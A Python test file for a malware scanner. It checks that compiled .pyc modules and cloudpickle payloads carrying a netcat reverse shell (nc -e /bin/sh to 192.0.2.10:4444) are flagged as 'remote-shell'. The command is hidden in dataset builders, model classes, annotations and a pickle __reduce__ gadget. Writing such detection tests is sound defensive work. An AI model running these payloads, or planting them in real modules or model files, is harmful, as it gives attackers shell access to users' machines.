"""Compiled modules of every version, which loaders import as they would import the source."""

import os
import types
from collections.abc import Callable

import cloudpickle
import pytest

from scanner.finding import Verdict
from scanner.languages.bytecode.tables import magics
from tests.hostile.scanning import blocked_for, scan
from tests.languages.bytecode.interpreters import VERSIONS, compiled

SHELL = "os.system('nc -e /bin/sh 192.0.2.10 4444')"
RUNS = {
    "top level": f"import os\n{SHELL}\n",
    "a builder": f"""
import datasets, os
class Corpus(datasets.GeneratorBasedBuilder):
    def _split_generators(self, manager):
        {SHELL}
""",
    "from_pretrained": f"""
import os
from transformers import PreTrainedModel
class Net(PreTrainedModel):
    def __init__(self, config):
        {SHELL}
""",
    "beside a choice": f"import os\nif os.sep:\n    {SHELL}\nif __name__ == '__main__':\n    print(1)\n",
    "all but a program": f"import os\nif __name__ != '__main__':\n    {SHELL}\n",
    "a module that renames itself": f"import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    {SHELL}\n",
}
RESTS = {
    "a program": f"import os\nif __name__ == '__main__':\n    {SHELL}\n",
    "a program beside a choice": f"import os\nif os.sep:\n    X = 1\nif __name__ == '__main__':\n    {SHELL}\n",
    "a function": f"import os\ndef main():\n    {SHELL}\n",
    "another class": f"import os\nclass Tool(object):\n    def _info(self):\n        {SHELL}\n",
}


def module(version: str, source: str) -> bytes:
    """The ``.pyc`` file of a module."""
    (code,) = compiled(version, (source,))
    assert code is not None
    number = tuple(map(int, version.split(".")))
    magic = next(found for found, known in magics().items() if known == number)
    rest = 12 if number >= (3, 7) else 8 if number >= (3, 3) else 4
    return magic.to_bytes(2, "little") + b"\r\n" + bytes(rest) + code


@pytest.mark.parametrize("version", VERSIONS)
def test_what_an_import_runs_is_blocked(version: str) -> None:
    told = {name: blocked_for(scan(module(version, source), "m.pyc")) for name, source in RUNS.items()}
    assert told == {name: {"remote-shell"} for name in RUNS}


@pytest.mark.parametrize("version", VERSIONS)
def test_what_it_does_not_run_is_not(version: str) -> None:
    for name, source in RESTS.items():
        assert scan(module(version, source), "m.pyc").verdict in (Verdict.CLEAN, Verdict.NOTE), name


@pytest.mark.parametrize("version", [version for version in VERSIONS if version > "3"])
def test_annotations_run(version: str) -> None:
    source = f"import dataclasses, os\n@dataclasses.dataclass\nclass Record:\n    host: {SHELL}\n"
    assert blocked_for(scan(module(version, source), "m.pyc")) == {"remote-shell"}


class Shell:
    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("nc -e /bin/sh 192.0.2.10 4444",)


@pytest.mark.parametrize("name", ["main", "main@1", "<module>", "f", ""])
@pytest.mark.parametrize("first", [True, False])
def test_no_name_of_a_carried_function_hides_what_else_a_pickle_does(name: str, *, first: bool) -> None:
    code = (lambda: None).__code__.replace(co_name=name, co_qualname=name)
    carried = types.FunctionType(code, {"__name__": "__main__"}, name)
    carried.__module__ = "__main__"
    both = [carried, Shell()]
    assert blocked_for(scan(cloudpickle.dumps(both if first else both[::-1]))) == {"remote-shell"}


@pytest.mark.parametrize("version", VERSIONS)
def test_a_function_called_as_the_module_is_here(version: str) -> None:
    source = f"import os\ndef main():\n    return 1\n{SHELL}\nclass main:\n    pass\n"
    assert blocked_for(scan(module(version, source), "m.pyc")) == {"remote-shell"}
